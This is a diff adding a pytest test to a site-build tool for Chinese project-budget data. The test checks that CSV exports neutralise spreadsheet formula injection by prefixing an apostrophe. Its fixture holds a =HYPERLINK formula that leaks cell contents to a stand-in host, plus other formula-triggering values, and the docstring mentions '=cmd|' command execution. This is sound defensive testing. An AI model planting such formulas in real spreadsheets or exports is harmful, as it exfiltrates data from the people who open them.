@@ -384,3 +384,34 @@ def test_no_project_id_can_overwrite_a_file_of_its_year(tmp_path: Path):
     line = text.splitlines().index("id: p000001") + 1
     assert f"content/2023/p000001.yaml:{line}:5: error E024 id「changes」" in result.stdout + result.stderr
     assert (site / "output/2023/changes.html").read_bytes() == before  # nothing published
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(site_dir: Path):
+    """A text cell starting with = + - @ TAB or CR would run in Excel (=HYPERLINK exfiltrates,
+    =cmd|… runs programs): the CSV downloads prefix it with an apostrophe (OWASP), the JSON keeps
+    the text as written, and the data package says so."""
+    import csv
+    import io
+    import json
+
+    from conftest import run_cli
+
+    path = site_dir / "content/2022/test-project.yaml"
+    text = path.read_text(encoding="utf-8").replace(
+        "实施单位: 测试局", """实施单位: '=HYPERLINK("http://x/?"&A1,"点击")'""").replace(
+        "        指标值: ≥1次\n", "        指标值: ≥1次\n        说明: \"@SUM(1+1)\\t\"\n").replace(
+        "  资金来源: 财政资金", "  资金来源: \"-2+3\"")
+    path.write_text(text, encoding="utf-8")
+    result = run_cli("build", "--no-search", cwd=site_dir)
+    assert result.returncode == 0, result.stderr
+    for name in ("2022/test-project.csv", "2022/indicators.csv"):
+        rows = list(csv.DictReader(io.StringIO((site_dir / "output" / name).read_text(encoding="utf-8-sig"))))
+        assert {r["实施单位"] for r in rows} == {"""'=HYPERLINK("http://x/?"&A1,"点击")"""}, name
+        assert {r["资金来源"] for r in rows} == {"'-2+3"}
+        assert "'@SUM(1+1)\t" in {r["说明"] for r in rows}
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
+        assert {r["资金总额（万元）"] for r in rows} == {"10"}  # numbers stay numbers
+    data = json.loads((site_dir / "output/2022/test-project.json").read_text(encoding="utf-8"))
+    assert data["实施单位"] == '=HYPERLINK("http://x/?"&A1,"点击")' and data["资金"]["资金来源"] == "-2+3"
+    package = json.loads((site_dir / "output/2022/datapackage.json").read_text(encoding="utf-8"))
+    assert "公式" in package["description"] and "'" in package["description"]
